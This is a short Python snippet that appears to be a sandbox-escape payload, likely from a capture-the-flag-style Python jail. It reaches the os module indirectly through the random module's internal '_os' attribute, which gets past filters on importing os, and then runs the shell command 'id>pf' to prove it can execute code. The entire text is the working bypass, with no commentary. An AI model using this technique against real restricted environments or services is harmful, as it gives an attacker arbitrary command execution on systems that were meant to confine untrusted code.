import random
x = [getattr(random, a) for a in dir(random) if a.endswith("_os")]
x[0].system("id>pf")
